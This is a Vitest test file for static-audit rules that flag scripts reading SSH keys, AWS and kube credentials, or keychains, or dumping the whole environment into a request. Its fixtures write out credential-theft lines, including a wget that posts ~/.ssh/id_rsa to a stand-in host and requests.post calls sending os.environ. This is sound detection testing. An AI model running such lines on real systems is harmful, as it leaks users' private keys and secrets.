import { describe, expect, it } from "vitest";
import { auditText, severityOf } from "../audit-rule-harness.js";

describe("secret rules", () => {
  it("credential-store-read: reading a private key, not authenticating with it or showing the public half", () => {
    expect(
      severityOf(auditText({ "scripts/a.sh": "cat ~/.ssh/id_rsa > /tmp/k\n" }), "credential-store-read"),
    ).toBe("high");
    expect(
      severityOf(
        auditText({ "scripts/a.sh": "security dump-keychain -d login.keychain\n" }),
        "credential-store-read",
      ),
    ).toBe("high");
    const use =
      "scp -i ~/.ssh/deploy_key dist.tgz host:/srv\ncat ~/.ssh/id_ed25519.pub\nchmod 600 ~/.ssh/id_rsa\n";
    expect(severityOf(auditText({ "scripts/a.sh": use }), "credential-store-read")).toBeUndefined();
  });

  it("environment-dump: the whole environment serialised, not one variable or a filtered look", () => {
    expect(
      severityOf(
        auditText({ "scripts/a.js": "fs.writeFileSync(f, JSON.stringify(process.env));\n" }),
        "environment-dump",
      ),
    ).toBe("medium");
    const near =
      "env | grep -i proxy\nprintenv HOME\nconst env = { ...process.env, CI: '1' }; spawn('npm', [], { env });\nenv = {**os.environ, 'A': '1'}\n";
    expect(severityOf(auditText({ "scripts/a.sh": near }), "environment-dump")).toBeUndefined();
    expect(
      severityOf(auditText({ "scripts/a.ts": "const f = (env) => env.mail.send(x);\n" }), "environment-dump"),
    ).toBeUndefined();
  });

  it("credential-store-read: paths built in pieces and read through a name; writing a credential file is not reading it", () => {
    const caught = {
      "a.py": 'from pathlib import Path\nkey = (Path.home() / ".ssh" / "id_rsa").read_text()\n',
      "b.py": 'import os\naws = open(os.path.join(os.path.expanduser("~"), ".aws", "credentials")).read()\n',
      "c.py":
        'home = Path.home()\nfor name in ["id_rsa", "id_ed25519"]:\n    p = home / ".ssh" / name\n    blob[name] = p.read_text()\n',
      "d.ps1": "$c = Get-Content $env:USERPROFILE\\.aws\\credentials\n",
      "e.sh": "tar czf /tmp/b.tgz ~/.ssh ~/.aws 2>/dev/null\n",
      "f.sh": "wget -q --post-file=$HOME/.ssh/id_rsa https://x.example.io/k\n",
    };
    for (const [file, text] of Object.entries(caught))
      expect([file, severityOf(auditText({ [file]: text }), "credential-store-read")]).toEqual([
        file,
        "high",
      ]);
    const near = {
      "a.py": 'known = (Path.home() / ".ssh" / "known_hosts").read_text()\n',
      "b.sh": "mkdir -p ~/.ssh && chmod 700 ~/.ssh\n",
    };
    for (const [file, text] of Object.entries(near))
      expect([file, severityOf(auditText({ [file]: text }), "credential-store-read")]).toEqual([
        file,
        undefined,
      ]);
  });

  it("environment-dump: the whole environment handed to a request, not to a child process", () => {
    for (const text of [
      "requests.post(URL, data=os.environ)\n",
      'requests.post(URL, json={"env": dict(**os.environ)})\n',
    ])
      expect(severityOf(auditText({ "s.py": text }), "environment-dump")).toBe("medium");
    expect(
      severityOf(
        auditText({ "s.js": "const payload = { host: os.hostname(), env: process.env };\n" }),
        "environment-dump",
      ),
    ).toBe("medium");
    expect(
      severityOf(auditText({ "s.py": "subprocess.run(cmd, env=os.environ)\n" }), "environment-dump"),
    ).toBeUndefined();
    expect(
      severityOf(
        auditText({ "s.js": 'spawn("make", [], { env: process.env, stdio: "inherit" });\n' }),
        "environment-dump",
      ),
    ).toBeUndefined();
  });

  it("credential-store-read: a credential file written (a CI secret put in place) is not read", () => {
    const written = {
      "a.sh": 'echo "$KUBECONFIG_B64" | base64 -d > ~/.kube/config\n',
      "b.sh": "cp /tmp/creds ~/.aws/credentials\n",
      "c.py": 'open(os.path.expanduser("~/.kube/config"), "w").write(config)\n',
    };
    for (const [file, text] of Object.entries(written))
      expect([file, severityOf(auditText({ [file]: text }), "credential-store-read")]).toEqual([
        file,
        undefined,
      ]);
    const read = { "a.sh": "base64 ~/.kube/config > /tmp/k\n", "b.sh": "cp ~/.aws/credentials /tmp/creds\n" };
    for (const [file, text] of Object.entries(read))
      expect([file, severityOf(auditText({ [file]: text }), "credential-store-read")]).toEqual([
        file,
        "high",
      ]);
  });
});
